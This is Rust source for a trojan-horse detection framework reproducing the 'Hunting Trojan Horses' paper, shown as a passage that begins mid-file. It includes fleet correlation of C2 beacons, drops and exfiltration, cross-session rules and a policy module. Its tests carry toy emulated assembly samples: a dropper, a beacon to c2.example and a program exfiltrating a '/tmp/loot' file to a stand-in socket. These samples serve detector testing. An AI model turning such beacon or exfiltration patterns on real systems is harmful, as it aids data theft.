    pub min_drop_sessions: i64,
    /// Sessions exfiltrating to one target at/above this are a
    /// candidate for `distributed_exfil` (Medium).
    pub min_exfil_sessions: i64,
    /// Fleet-wide byte total at/above this fires `distributed_exfil`…
    pub exfil_fleet_bytes: i64,
    /// …provided every per-session volume stays *under* this ceiling
    /// (at or above it, the per-session policy already sees the flow —
    /// the fleet rule exists for the low-and-slow shape).
    pub exfil_session_bytes: i64,
    /// Additional CLIPS policy text loaded on top of the correlator
    /// rules, in order.
    pub extra_rules: Vec<String>,
}

impl Default for CorrelateConfig {
    fn default() -> CorrelateConfig {
        CorrelateConfig {
            min_c2_labels: 3,
            min_drop_sessions: 3,
            min_exfil_sessions: 3,
            exfil_fleet_bytes: 2048,
            exfil_session_bytes: 1024,
            extra_rules: Vec::new(),
        }
    }
}

/// What one correlation pass concluded.
#[derive(Clone, Debug, PartialEq)]
pub struct CorrelationReport {
    /// Fleet-level warnings, each with cross-session provenance.
    pub warnings: Vec<Warning>,
    /// Sessions whose digests were correlated.
    pub sessions: u64,
    /// The engine's printout transcript (paper-style warning lines).
    pub transcript: String,
}

impl CorrelationReport {
    /// Warning multiset as `(severity, rule)` → count — the shape the
    /// equivalence suite compares.
    pub fn warning_counts(&self) -> BTreeMap<(Severity, String), u64> {
        let mut counts = BTreeMap::new();
        for w in &self.warnings {
            *counts.entry((w.severity, w.rule.clone())).or_insert(0) += 1;
        }
        counts
    }

    /// Every warning's causal tree, concatenated — the fleet-level
    /// `hth explain` rendering the golden corpus pins.
    pub fn render_trees(&self) -> String {
        let mut out = String::new();
        for (i, w) in self.warnings.iter().enumerate() {
            out.push_str(&format!("── fleet warning {i} ──\n"));
            match &w.provenance {
                Some(p) => out.push_str(&p.render_tree(w)),
                None => out.push_str(&format!("{w}\n")),
            }
        }
        out
    }

    /// One-line-per-warning human summary.
    pub fn render(&self) -> String {
        let mut out = format!(
            "fleet correlation: {} sessions, {} warnings\n",
            self.sessions,
            self.warnings.len()
        );
        for w in &self.warnings {
            out.push_str(&format!("  [{}] {}: {}\n", w.severity, w.rule, w.message));
        }
        out
    }
}

/// Per-key aggregate under construction: which sessions (with labels)
/// contributed, and the leaf fact ids asserted for them.
#[derive(Default)]
struct Agg {
    contributors: BTreeMap<u64, String>,
    leaves: Vec<FactId>,
    total: u64,
    peak: u64,
}

impl Agg {
    fn add(&mut self, session: u64, label: &str, leaf: Option<FactId>) {
        self.contributors.insert(session, label.to_string());
        self.leaves.extend(leaf);
    }

    fn label_values(&self) -> Value {
        let labels: BTreeSet<&str> = self.contributors.values().map(String::as_str).collect();
        Value::multi(labels.into_iter().map(Value::str))
    }

    fn session_values(&self) -> Value {
        Value::multi(self.contributors.keys().map(|s| Value::Int(*s as i64)))
    }
}

/// The fleet-wide correlator: ingest digests, then judge the whole
/// fleet at once.
#[derive(Debug, Default)]
pub struct Correlator {
    config: CorrelateConfig,
    digests: BTreeMap<u64, SessionDigest>,
}

impl Correlator {
    /// A correlator with the given thresholds.
    pub fn new(config: CorrelateConfig) -> Correlator {
        Correlator { config, digests: BTreeMap::new() }
    }

    /// Folds one digest in. Digests of the same session merge
    /// ([`SessionDigest::merge`]), so partial digests — per-shard, per
    /// batch, or salvaged after a quarantine — reconcile to the same
    /// state as one whole-session digest.
    pub fn ingest(&mut self, digest: SessionDigest) {
        match self.digests.get_mut(&digest.session) {
            Some(existing) => existing.merge(&digest),
            None => {
                self.digests.insert(digest.session, digest);
            }
        }
    }

    /// Sessions ingested so far.
    pub fn sessions(&self) -> u64 {
        self.digests.len() as u64
    }

    /// The ingested digests, in session order.
    pub fn digests(&self) -> impl Iterator<Item = &SessionDigest> {
        self.digests.values()
    }

    /// Runs the correlator policy over everything ingested. Pure in the
    /// digest multiset: a fresh engine is built per call, so calling
    /// twice yields identical reports.
    ///
    /// # Errors
    ///
    /// Engine errors from the embedded policy (a bug, covered by
    /// tests) or from `extra_rules`.
    pub fn correlate(&self) -> Result<CorrelationReport, EngineError> {
        let _span = hth_trace::span("correlator.correlate");
        let mut engine = Engine::new();
        let warnings: Arc<Mutex<Vec<Arc<Warning>>>> = Arc::new(Mutex::new(Vec::new()));
        register_warn(&mut engine, warnings.clone());
        register_severity_text(&mut engine);
        engine.set_support_capture(true);
        engine.load_str(DIGEST_TEMPLATES)?;
        engine.load_str(CORRELATE_RULES)?;
        for rules in &self.config.extra_rules {
            engine.load_str(rules)?;
        }
        engine.set_global("MIN_C2_LABELS", self.config.min_c2_labels);
        engine.set_global("MIN_DROP_SESSIONS", self.config.min_drop_sessions);
        engine.set_global("MIN_EXFIL_SESSIONS", self.config.min_exfil_sessions);
        engine.set_global("EXFIL_FLEET_BYTES", self.config.exfil_fleet_bytes);
        engine.set_global("EXFIL_SESSION_BYTES", self.config.exfil_session_bytes);
        engine.reset()?;

        // Leaf facts (session order, set order within a session) and
        // the aggregates they roll up into (key order). Both orders are
        // total, so fact ids — and with them firing order, warning
        // order and rendered provenance — are a function of digest
        // content alone.
        let mut beacons: BTreeMap<String, Agg> = BTreeMap::new();
        let mut artifacts: BTreeMap<(String, bool), Agg> = BTreeMap::new();
        let mut exfil: BTreeMap<String, Agg> = BTreeMap::new();
        for digest in self.digests.values() {
            let sid = digest.session as i64;
            let label = if digest.label.is_empty() {
                format!("session-{}", digest.session)
            } else {
                digest.label.clone()
            };
            let fact = engine
                .fact("session_digest")?
                .slot("session", Value::Int(sid))
                .slot("label", Value::str(label.as_str()))
                .slot("events", Value::Int(digest.events as i64))
                .build()?;
            engine.assert_fact(fact)?;
            for endpoint in &digest.beacons {
                let fact = engine
                    .fact("digest_beacon")?
                    .slot("session", Value::Int(sid))
                    .slot("label", Value::str(label.as_str()))
                    .slot("endpoint", Value::str(endpoint.as_str()))
                    .build()?;
                let id = engine.assert_fact(fact)?;
                beacons.entry(endpoint.clone()).or_default().add(digest.session, &label, id);
            }
            for drop in &digest.drops {
                let fact = engine
                    .fact("digest_drop")?
                    .slot("session", Value::Int(sid))
                    .slot("label", Value::str(label.as_str()))
                    .slot("path", Value::str(drop.path.as_str()))
                    .slot("executable", Value::sym(if drop.executable { "TRUE" } else { "FALSE" }))
                    .slot(
                        "content",
                        Value::multi(drop.content.iter().map(|c| Value::sym(c.as_str()))),
                    )
                    .build()?;
                let id = engine.assert_fact(fact)?;
                artifacts.entry((drop.path.clone(), drop.executable)).or_default().add(
                    digest.session,
                    &label,
                    id,
                );
            }
            for (target, bytes) in &digest.exfil {
                let fact = engine
                    .fact("digest_exfil")?
                    .slot("session", Value::Int(sid))
                    .slot("label", Value::str(label.as_str()))
                    .slot("target", Value::str(target.as_str()))
                    .slot("bytes", Value::Int(*bytes as i64))
                    .build()?;
                let id = engine.assert_fact(fact)?;
                let agg = exfil.entry(target.clone()).or_default();
                agg.add(digest.session, &label, id);
                agg.total += bytes;
                agg.peak = agg.peak.max(*bytes);
            }
        }

        // Aggregate facts, with a map from each aggregate's fact id
        // back to its per-session leaves for provenance.
        let mut roots: HashMap<u64, &Agg> = HashMap::new();
        for (endpoint, agg) in &beacons {
            let fact = engine
                .fact("shared_endpoint")?
                .slot("endpoint", Value::str(endpoint.as_str()))
                .slot("labels", agg.label_values())
                .slot("sessions", agg.session_values())
                .build()?;
            if let Some(id) = engine.assert_fact(fact)? {
                roots.insert(id.raw(), agg);
            }
        }
        for ((path, executable), agg) in &artifacts {
            let fact = engine
                .fact("recurring_artifact")?
                .slot("path", Value::str(path.as_str()))
                .slot("executable", Value::sym(if *executable { "TRUE" } else { "FALSE" }))
                .slot("labels", agg.label_values())
                .slot("sessions", agg.session_values())
                .build()?;
            if let Some(id) = engine.assert_fact(fact)? {
                roots.insert(id.raw(), agg);
            }
        }
        for (target, agg) in &exfil {
            let fact = engine
                .fact("fleet_exfil")?
                .slot("target", Value::str(target.as_str()))
                .slot("sessions", agg.session_values())
                .slot("total_bytes", Value::Int(agg.total as i64))
                .slot("max_session_bytes", Value::Int(agg.peak as i64))
                .build()?;
            if let Some(id) = engine.assert_fact(fact)? {
                roots.insert(id.raw(), agg);
            }
        }

        engine.run(None)?;
        self.attach_provenance(&engine, &warnings, &roots);

        let warnings: Vec<Warning> = {
            let sink = warnings.lock().expect("warning sink poisoned");
            sink.iter().map(|w| (**w).clone()).collect()
        };
        Ok(CorrelationReport {
            warnings,
            sessions: self.digests.len() as u64,
            transcript: engine.take_output(),
        })
    }

    /// Mirrors `Secpert::attach_provenance` for the fleet engine:
    /// pairs each warning with its firing by rule name, then extends
    /// the support with the per-session leaf facts behind the matched
    /// aggregate, so the causal tree spans the contributing sessions.
    fn attach_provenance(
        &self,
        engine: &Engine,
        warnings: &Arc<Mutex<Vec<Arc<Warning>>>>,
        roots: &HashMap<u64, &Agg>,
    ) {
        let firings = engine.firings();
        if firings.is_empty() {
            return;
        }
        let mut sink = warnings.lock().expect("warning sink poisoned");
        let mut cursor = 0usize;
        for slot in sink.iter_mut() {
            let Some(offset) = firings[cursor..].iter().position(|f| *f.rule == *slot.rule) else {
                continue;
            };
            let at = cursor + offset;
            cursor = at + 1;
            let firing = &firings[at];
            let mut support: Vec<FactSupport> = match engine.support_for(firing.seq) {
                Some(records) => records
                    .iter()
                    .enumerate()
                    .map(|(i, r)| FactSupport {
                        id: r.fact,
                        fact: firing.facts.get(i).map(|f| f.to_string()).unwrap_or_default(),
                        co_rules: r.co_rules.iter().map(|n| n.to_string()).collect(),
                    })
                    .collect(),
                None => firing
                    .fact_ids
                    .iter()
                    .flatten()
                    .enumerate()
                    .map(|(i, id)| FactSupport {
                        id: id.raw(),
                        fact: firing.facts.get(i).map(|f| f.to_string()).unwrap_or_default(),
                        co_rules: Vec::new(),
                    })
                    .collect(),
            };
            // The leaves: one per contributing session, rendered from
            // working memory (leaf facts are never retracted).
            let agg = firing.fact_ids.iter().flatten().find_map(|id| roots.get(&id.raw()));
            let mut taint_sources = Vec::new();
            if let Some(agg) = agg {
                for leaf in &agg.leaves {
                    if let Some(fact) = engine.get_fact(*leaf) {
                        support.push(FactSupport {
                            id: leaf.raw(),
                            fact: fact.to_string(),
                            co_rules: Vec::new(),
                        });
                    }
                }
                taint_sources = agg
                    .contributors
                    .iter()
                    .map(|(session, label)| format!("session-{session}({label})"))
                    .collect();
            }
            let provenance = Provenance {
                event_index: self.digests.len() as u64,
                syscall: "digest-stream".to_string(),
                firing_seq: firing.seq as u64,
                rule_chain: firings[..=at].iter().map(|f| f.rule.to_string()).collect(),
                support,
                taint_sources,
            };
            let mut enriched = (**slot).clone();
            enriched.provenance = Some(Box::new(provenance));
            *slot = Arc::new(enriched);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::digest::{DigestBuilder, DropIdentity};

    fn bot(session: u64, label: &str) -> SessionDigest {
        let mut d = SessionDigest::new(session, label);
        d.events = 4;
        d.beacons.insert("c2.example:6667".into());
        d
    }

    fn dropper(session: u64, label: &str) -> SessionDigest {
        let mut d = SessionDigest::new(session, label);
        d.events = 3;
        d.drops.insert(DropIdentity {
            path: "/tmp/stage2".into(),
            executable: true,
            content: vec!["SOCKET".into()],
        });
        d
    }

    fn leaker(session: u64, label: &str, bytes: u64) -> SessionDigest {
        let mut d = SessionDigest::new(session, label);
        d.events = 2;
        d.exfil.insert("sink.example:81".into(), bytes);
        d
    }

    fn coordinated() -> Vec<SessionDigest> {
        vec![
            bot(0, "bot-a"),
            bot(1, "bot-b"),
            bot(2, "bot-c"),
            dropper(3, "dropper-a"),
            dropper(4, "dropper-b"),
            dropper(5, "dropper-c"),
            leaker(6, "leak-a", 700),
            leaker(7, "leak-b", 700),
            leaker(8, "leak-c", 700),
        ]
    }

    #[test]
    fn coordinated_fleet_fires_all_three_rules() {
        let mut correlator = Correlator::new(CorrelateConfig::default());
        for d in coordinated() {
            correlator.ingest(d);
        }
        let report = correlator.correlate().unwrap();
        let rules: BTreeSet<&str> = report.warnings.iter().map(|w| w.rule.as_str()).collect();
        assert_eq!(
            rules,
            ["distributed_exfil", "recurring_dropper", "shared_c2"].into_iter().collect()
        );
        assert_eq!(report.sessions, 9);
        let c2 = report.warnings.iter().find(|w| w.rule == "shared_c2").unwrap();
        assert_eq!(c2.severity, Severity::High);
        let prov = c2.provenance.as_ref().expect("fleet provenance");
        assert_eq!(prov.syscall, "digest-stream");
        // The causal tree spans the three beaconing sessions.
        let leaf_sessions =
            prov.support.iter().filter(|s| s.fact.contains("digest_beacon")).count();
        assert_eq!(leaf_sessions, 3, "{:#?}", prov.support);
        assert_eq!(
            prov.taint_sources,
            vec!["session-0(bot-a)", "session-1(bot-b)", "session-2(bot-c)"]
        );
        let exfil = report.warnings.iter().find(|w| w.rule == "distributed_exfil").unwrap();
        assert_eq!(exfil.severity, Severity::Medium);
        assert!(exfil.message.contains("2100 bytes"), "{}", exfil.message);
    }

    #[test]
    fn correlate_is_pure_and_ingest_is_order_insensitive() {
        let mut forward = Correlator::new(CorrelateConfig::default());
        for d in coordinated() {
            forward.ingest(d);
        }
        let mut reverse = Correlator::new(CorrelateConfig::default());
        for d in coordinated().into_iter().rev() {
            reverse.ingest(d);
        }
        let a = forward.correlate().unwrap();
        let b = forward.correlate().unwrap();
        let c = reverse.correlate().unwrap();
        assert_eq!(a, b, "correlate() must be pure");
        assert_eq!(a, c, "ingest order must not matter");
        assert_eq!(a.render_trees(), c.render_trees());
    }

    #[test]
    fn partial_digests_reconcile_to_the_whole() {
        // One session observed in two halves (as a quarantined shard's
        // salvage would deliver it) correlates identically to the
        // session observed whole.
        let whole = {
            let mut b = DigestBuilder::new(0, "bot-a");
            b.set_label("bot-a");
            let mut d = b.finish();
            d.events = 4;
            d.beacons.insert("c2.example:6667".into());
            d
        };
        let mut split = Correlator::new(CorrelateConfig::default());
        let mut half = SessionDigest::new(0, "bot-a");
        half.events = 2;
        half.beacons.insert("c2.example:6667".into());
        let mut other = SessionDigest::new(0, "");
        other.events = 2;
        other.beacons.insert("c2.example:6667".into());
        split.ingest(half);
        split.ingest(other);
        for d in coordinated().into_iter().skip(1) {
            split.ingest(d);
        }
        let mut merged = Correlator::new(CorrelateConfig::default());
        merged.ingest(whole);
        for d in coordinated().into_iter().skip(1) {
            merged.ingest(d);
        }
        assert_eq!(split.correlate().unwrap(), merged.correlate().unwrap());
    }

    #[test]
    fn uncoordinated_fleet_stays_quiet() {
        let mut correlator = Correlator::new(CorrelateConfig::default());
        // Same program label across sessions: a normal fleet of mail
        // clients polling one server — not shared_c2.
        for session in 0..6 {
            correlator.ingest(bot(session, "mailer"));
        }
        // Two droppers: below the session floor.
        correlator.ingest(dropper(6, "d-a"));
        correlator.ingest(dropper(7, "d-b"));
        // Exfil where one session exceeds the per-session ceiling: the
        // per-session policy's jurisdiction, not the fleet rule's.
        correlator.ingest(leaker(8, "l-a", 1500));
        correlator.ingest(leaker(9, "l-b", 600));
        correlator.ingest(leaker(10, "l-c", 600));
        let report = correlator.correlate().unwrap();
        assert!(report.warnings.is_empty(), "{}", report.render());
    }
}
