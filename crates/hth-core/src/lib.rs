//! # hth-core — the HTH framework: Secpert policy + monitoring sessions
//!
//! This crate assembles the reproduction of *Hunting Trojan Horses*
//! (Moffie & Kaeli, NUCAR TR-01, 2006): the [`Secpert`] security expert
//! (the paper's CLIPS policy, §4 and Appendix A, evaluated by
//! `secpert-engine`) and the [`Session`] driver that runs a program
//! under the Harrier monitor, feeds events through the policy, and
//! collects [`Warning`]s.
//!
//! ```
//! use hth_core::{Session, SessionConfig, Severity};
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let mut session = Session::new(SessionConfig::default())?;
//! session.kernel.register_binary(
//!     "/bin/dropper",
//!     r#"
//!     _start:
//!         mov eax, 11        ; execve
//!         mov ebx, prog      ; hardcoded program name
//!         int 0x80
//!         hlt
//!     .data
//!     prog: .asciz "/bin/ls"
//!     "#,
//!     &[],
//! );
//! session.start("/bin/dropper", &["/bin/dropper"], &[])?;
//! session.run()?;
//! assert_eq!(session.max_severity(), Some(Severity::Low));
//! assert!(session.warnings()[0].message.contains("/bin/ls"));
//! # Ok(())
//! # }
//! ```

#![warn(missing_docs)]

mod correlate;
mod cross_session;
mod digest;
mod policy;
mod provenance;
mod secpert;
mod session;
mod warning;

pub use correlate::{CorrelateConfig, CorrelationReport, Correlator};
pub use cross_session::{BotnetReport, DropRecord, SessionHistory};
pub use digest::{digest_session, DigestBuilder, DropIdentity, SessionDigest};
pub use policy::{PolicyConfig, POLICY_CLIPS};
pub use provenance::{FactSupport, Provenance};
pub use secpert::Secpert;
pub use secpert_engine::SnapshotError;
pub use session::{EventTap, RunReport, Session, SessionConfig, SessionError, SessionSummary};
pub use warning::{Severity, Warning};

// Re-export the layers below so downstream users need only this crate.
pub use emukernel;
pub use harrier;
pub use hth_vm;
pub use secpert_engine;
