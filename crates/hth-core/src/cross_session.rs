//! Cross-session monitoring (paper §10, item 6).
//!
//! The paper proposes expanding the rules "to take into account a
//! program's behaviour during several different executions … when data
//! is downloaded to a file we will be able to see how that file is being
//! used in later executions". This module implements that: a
//! [`SessionHistory`] absorbs what each monitored session *dropped* into
//! the filesystem, and arms subsequent sessions with extra facts and a
//! rule so that executing a previously-dropped file warns High — even
//! when the single-session policy alone would only grade it Low.

use std::collections::{BTreeMap, BTreeSet, HashMap};

use harrier::{ResourceType, SecpertEvent};

use secpert_engine::{EngineError, Value};

use crate::session::Session;

/// What one earlier session wrote into a file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DropRecord {
    /// Path that was written.
    pub path: String,
    /// Program that wrote it.
    pub by: String,
    /// Data-source type names of the written bytes (`BINARY`, `SOCKET`, …).
    pub data_types: Vec<String>,
    /// Session sequence number that recorded the drop.
    pub session: u64,
}

/// Cross-session state: files dropped by monitored programs, plus the
/// fixed endpoints each program beaconed to (botnet correlation, §10
/// item 3).
#[derive(Clone, Debug, Default)]
pub struct SessionHistory {
    drops: HashMap<String, DropRecord>,
    beacons: BTreeMap<String, BTreeSet<String>>,
    sessions: u64,
}

/// A command-and-control endpoint contacted (with a hardcoded address)
/// by more than one distinct monitored program — the bot-network
/// signature of paper §10 item 3.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BotnetReport {
    /// Rendered endpoint, e.g. `c2.example:6667 (AF_INET)`.
    pub endpoint: String,
    /// Programs that beaconed to it.
    pub programs: Vec<String>,
}

/// The cross-session rule armed into each new session.
const CROSS_SESSION_RULES: &str = r#"
(deftemplate dropped_file
  (slot path)
  (slot by)
  (multislot data_types)
  (slot session))

(defrule cross_session_exec "executing a file dropped in an earlier session"
  ?e <- (system_call_access (system_call_name SYS_execve)
          (pid ?pid) (resource_name ?name) (time ?time))
  (dropped_file (path ?name) (by ?by) (session ?session))
  =>
  (bind ?msg (str-cat "Found SYS_execve call (" ?name ")"
                      " | this file was dropped by " ?by
                      " in an earlier monitored session (" ?session ")"))
  (printout t (severity-text 3) " " ?msg crlf)
  (warn 3 cross_session_exec ?pid ?time ?msg))

(defrule cross_session_read "reading back a file dropped by an earlier session"
  ?e <- (data_transfer (pid ?pid) (source_name $?sn) (target_name ?tname)
          (target_type SOCKET) (time ?time))
  (dropped_file (path ?path) (by ?by))
  (test (not (empty-list (member$ ?path $?sn))))
  =>
  (bind ?msg (str-cat "Found Write call sending " ?path " (dropped by " ?by
                      " in an earlier session) to the socket " ?tname))
  (printout t (severity-text 3) " " ?msg crlf)
  (warn 3 cross_session_read ?pid ?time ?msg))
"#;

impl SessionHistory {
    /// An empty history.
    pub fn new() -> SessionHistory {
        SessionHistory::default()
    }

    /// Number of sessions absorbed so far.
    pub fn sessions(&self) -> u64 {
        self.sessions
    }

    /// Files dropped across all absorbed sessions.
    pub fn drops(&self) -> impl Iterator<Item = &DropRecord> {
        self.drops.values()
    }

    /// Records every file write and hardcoded beacon the finished
    /// session performed. Call after [`Session::run`] (the session must
    /// have `record_events` enabled).
    pub fn absorb(&mut self, session: &Session, program: &str) {
        self.sessions += 1;
        for event in session.events() {
            match event {
                SecpertEvent::DataTransfer { data_sources, target, .. } => {
                    if target.kind == ResourceType::File {
                        let record = DropRecord {
                            path: target.name.clone(),
                            by: program.to_string(),
                            data_types: data_sources
                                .iter()
                                .map(|s| s.kind.symbol().to_string())
                                .collect(),
                            session: self.sessions,
                        };
                        self.drops.insert(record.path.clone(), record);
                    }
                }
                SecpertEvent::ResourceAccess { syscall, resource, origin, .. } => {
                    // A connect to a hardcoded endpoint is a beacon.
                    if *syscall == "SYS_connect" && origin.has(ResourceType::Binary) {
                        self.beacons
                            .entry(resource.name.clone())
                            .or_default()
                            .insert(program.to_string());
                    }
                }
            }
        }
    }

    /// Endpoints beaconed to by at least `min_programs` distinct
    /// programs: the distributed-attack (bot network) correlation of
    /// paper §10 item 3.
    pub fn shared_c2(&self, min_programs: usize) -> Vec<BotnetReport> {
        self.beacons
            .iter()
            .filter(|(_, programs)| programs.len() >= min_programs)
            .map(|(endpoint, programs)| BotnetReport {
                endpoint: endpoint.clone(),
                programs: programs.iter().cloned().collect(),
            })
            .collect()
    }

    /// Arms a new session with the cross-session rules and one
    /// `dropped_file` fact per remembered drop.
    ///
    /// # Errors
    ///
    /// Propagates engine errors (rule load / fact assertion).
    pub fn arm(&self, session: &mut Session) -> Result<(), EngineError> {
        let secpert = session.secpert_mut();
        secpert.load_policy(CROSS_SESSION_RULES)?;
        for drop in self.drops.values() {
            let engine = secpert.engine_mut();
            let fact = engine
                .fact("dropped_file")?
                .slot("path", Value::str(&drop.path))
                .slot("by", Value::str(&drop.by))
                .slot("data_types", Value::multi(drop.data_types.iter().map(Value::sym)))
                .slot("session", drop.session as i64)
                .build()?;
            engine.assert_fact(fact)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::session::SessionConfig;
    use crate::warning::Severity;

    /// Session 1: a downloader drops a payload. Session 2: a separate
    /// launcher executes it — High only because of the history.
    #[test]
    fn drop_then_execute_across_sessions_is_high() {
        // --- session 1: the dropper ---
        let mut s1 = Session::new(SessionConfig::default()).unwrap();
        s1.kernel.register_binary(
            "/bin/downloader",
            r#"
            _start:
                mov eax, 5          ; open("/tmp/update", O_CREAT|O_WRONLY)
                mov ebx, path
                mov ecx, 0x41
                int 0x80
                mov esi, eax
                mov eax, 4
                mov ebx, esi
                mov ecx, payload
                mov edx, 8
                int 0x80
                mov eax, 1
                mov ebx, 0
                int 0x80
            .data
            path:    .asciz "/tmp/update"
            payload: .asciz "PAYLOAD"
            "#,
            &[],
        );
        s1.start("/bin/downloader", &["/bin/downloader"], &[]).unwrap();
        s1.run().unwrap();
        let mut history = SessionHistory::new();
        history.absorb(&s1, "/bin/downloader");
        assert_eq!(history.drops().count(), 1);

        // --- session 2: a launcher runs the dropped file, named by the
        // *user* — the single-session policy would stay silent. ---
        let mut s2 = Session::new(SessionConfig::default()).unwrap();
        history.arm(&mut s2).unwrap();
        s2.kernel.register_binary(
            "/bin/launcher",
            r"
            _start:
                mov ebp, esp
                mov ebx, [ebp+8]    ; argv[1]
                mov eax, 11
                int 0x80
                hlt
            ",
            &[],
        );
        s2.start("/bin/launcher", &["/bin/launcher", "/tmp/update"], &[]).unwrap();
        s2.run().unwrap();
        let warning = s2
            .warnings()
            .iter()
            .find(|w| w.rule == "cross_session_exec")
            .expect("cross-session rule fires")
            .clone();
        assert_eq!(warning.severity, Severity::High);
        assert!(warning.message.contains("/tmp/update"));
        assert!(warning.message.contains("/bin/downloader"));
    }

    /// Without history, the same second session is silent — the signal
    /// really does come from cross-session correlation.
    #[test]
    fn without_history_the_launcher_is_silent() {
        let mut s2 = Session::new(SessionConfig::default()).unwrap();
        s2.kernel.register_binary(
            "/bin/launcher",
            r"
            _start:
                mov ebp, esp
                mov ebx, [ebp+8]
                mov eax, 11
                int 0x80
                hlt
            ",
            &[],
        );
        s2.start("/bin/launcher", &["/bin/launcher", "/tmp/update"], &[]).unwrap();
        s2.run().unwrap();
        assert!(s2.warnings().is_empty());
    }

    /// Two different programs beaconing to the same hardcoded C2
    /// endpoint are correlated into a botnet report.
    #[test]
    fn shared_c2_is_correlated_across_sessions() {
        const BEACON: &str = r"
            _start:
                mov eax, 102
                mov ebx, 1
                mov ecx, sockargs
                int 0x80
                mov esi, eax
                mov [connargs], esi
                mov eax, 102
                mov ebx, 3
                mov ecx, connargs
                int 0x80
                mov eax, 1
                mov ebx, 0
                int 0x80
            .data
            sockargs: .long 2, 1, 0
            addr:     .word 2
            port:     .word 6667
            ip:       .long 0x0a0000c2
            connargs: .long 0, addr, 8
            ";
        let mut history = SessionHistory::new();
        for program in ["/bin/bot-a", "/bin/bot-b"] {
            let mut session = Session::new(SessionConfig::default()).unwrap();
            session.kernel.net.add_host("c2.example", 0x0a00_00c2);
            session.kernel.net.add_peer(
                emukernel::Endpoint { ip: 0x0a00_00c2, port: 6667 },
                emukernel::Peer::default(),
            );
            session.kernel.register_binary(program, BEACON, &[]);
            session.start(program, &[program], &[]).unwrap();
            session.run().unwrap();
            history.absorb(&session, program);
        }
        let reports = history.shared_c2(2);
        assert_eq!(reports.len(), 1, "{reports:?}");
        assert_eq!(reports[0].endpoint, "c2.example:6667 (AF_INET)");
        assert_eq!(reports[0].programs, vec!["/bin/bot-a", "/bin/bot-b"]);
        // One bot alone is not a botnet.
        assert!(history.shared_c2(3).is_empty());
    }

    /// Exfiltrating a previously-dropped file over a socket also warns.
    #[test]
    fn exfiltrating_a_dropped_file_is_high() {
        let mut history = SessionHistory::new();
        // Seed the history directly (as if session 1 had run).
        history.drops.insert(
            "/tmp/loot".to_string(),
            DropRecord {
                path: "/tmp/loot".to_string(),
                by: "/bin/collector".to_string(),
                data_types: vec!["USER_INPUT".to_string()],
                session: 1,
            },
        );
        history.sessions = 1;
        let mut s2 = Session::new(SessionConfig::default()).unwrap();
        history.arm(&mut s2).unwrap();
        s2.kernel.vfs.install("/tmp/loot", emukernel::FileNode::regular(b"secrets".to_vec()));
        s2.kernel.net.add_peer(emukernel::Endpoint { ip: 9, port: 9 }, emukernel::Peer::default());
        s2.kernel.register_binary(
            "/bin/exfil",
            r#"
            _start:
                mov ebp, esp
                mov ebx, [ebp+8]    ; user names the file: single-session
                mov eax, 5          ; policy alone would not flag this
                mov ecx, 0
                int 0x80
                mov edi, eax
                mov eax, 3
                mov ebx, edi
                mov ecx, 0x09000000
                mov edx, 7
                int 0x80
                mov eax, 102
                mov ebx, 1
                mov ecx, sockargs
                int 0x80
                mov esi, eax
                mov [connargs], esi
                mov eax, 102
                mov ebx, 3
                mov ecx, connargs
                int 0x80
                mov [sendargs], esi
                mov eax, 102
                mov ebx, 9
                mov ecx, sendargs
                int 0x80
                mov eax, 1
                mov ebx, 0
                int 0x80
            .data
            sockargs: .long 2, 1, 0
            addr:     .word 2
            port:     .word 9
            ip:       .long 9
            connargs: .long 0, addr, 8
            sendargs: .long 0, 0x09000000, 7, 0
            "#,
            &[],
        );
        s2.start("/bin/exfil", &["/bin/exfil", "/tmp/loot"], &[]).unwrap();
        s2.run().unwrap();
        assert!(
            s2.warnings().iter().any(|w| w.rule == "cross_session_read"),
            "{:?}",
            s2.warnings()
        );
    }
}
