//! The HTH security policy (paper §4), written in the CLIPS syntax the
//! paper's Appendix A uses and evaluated by `secpert-engine`.
//!
//! Three rule families:
//!
//! * **Execution flow** — `execve` with a hardcoded name (Low), a
//!   hardcoded name executed rarely and late (Medium), or a name that
//!   originated from a socket (High).
//! * **Resource abuse** — many processes created (Low), created fast
//!   (Medium).
//! * **Information flow** — writes graded by the data's sources, the
//!   sources' identifier origins, and the target's identifier origin
//!   (user-supplied vs hardcoded vs remote).
//!
//! Trusted shared objects (`libc.so`, `ld-linux.so` by default) are
//! filtered out by the `filter_binary` native, reproducing both the
//! paper's noise reduction and its deliberate false negative (ElmExploit
//! §8.3.1: `system()`'s `/bin/sh` string lives in trusted libc).

/// Tunable thresholds and trust lists for the policy.
#[derive(Clone, Debug)]
pub struct PolicyConfig {
    /// Frequency strictly below this counts as "rarely executed".
    pub rare_frequency: i64,
    /// Virtual time strictly above this counts as "started a while ago".
    pub long_time: i64,
    /// Process count at/above this is "high" (Low warning).
    pub proc_count_high: i64,
    /// Fork rate (per window) at/above this is "very frequent" (Medium).
    pub proc_rate_high: i64,
    /// Heap bytes at/above this warn Low (§10 memory-abuse extension).
    pub mem_high: i64,
    /// Heap bytes at/above this warn Medium.
    pub mem_very_high: i64,
    /// Binaries whose hardcoded data is trusted (substring match).
    pub trusted_binaries: Vec<String>,
    /// Socket names that are trusted (substring match).
    pub trusted_sockets: Vec<String>,
    /// Additional CLIPS policy text loaded on top of the standard
    /// policy, in order. This travels with the config, so analyst-pool
    /// engines (including respawns after a quarantine) get the same
    /// custom rules as a directly constructed Secpert.
    pub extra_rules: Vec<String>,
}

impl Default for PolicyConfig {
    fn default() -> PolicyConfig {
        PolicyConfig {
            rare_frequency: 2,
            long_time: 100,
            proc_count_high: 10,
            proc_rate_high: 20,
            mem_high: 1 << 20,
            mem_very_high: 16 << 20,
            trusted_binaries: vec!["libc.so".into(), "ld-linux.so".into()],
            trusted_sockets: Vec::new(),
            extra_rules: Vec::new(),
        }
    }
}

/// The policy source: templates, globals and rules.
pub const POLICY_CLIPS: &str = r#"
; ---------------------------------------------------------------------------
; Templates: the two event shapes Harrier asserts (paper §6.1.2).
; ---------------------------------------------------------------------------

(deftemplate system_call_access
  (slot pid)
  (slot system_call_name)
  (slot resource_name)
  (slot resource_type)
  (multislot resource_origin_name)
  (multislot resource_origin_type)
  (slot time (default 0))
  (slot frequency (default 1))
  (slot address (default "0"))
  (slot proc_count (default 0))
  (slot proc_rate (default 0))
  (slot mem_total (default 0))
  (slot server_address (default nil))
  (multislot server_origin_name)
  (multislot server_origin_type))

(deftemplate data_transfer
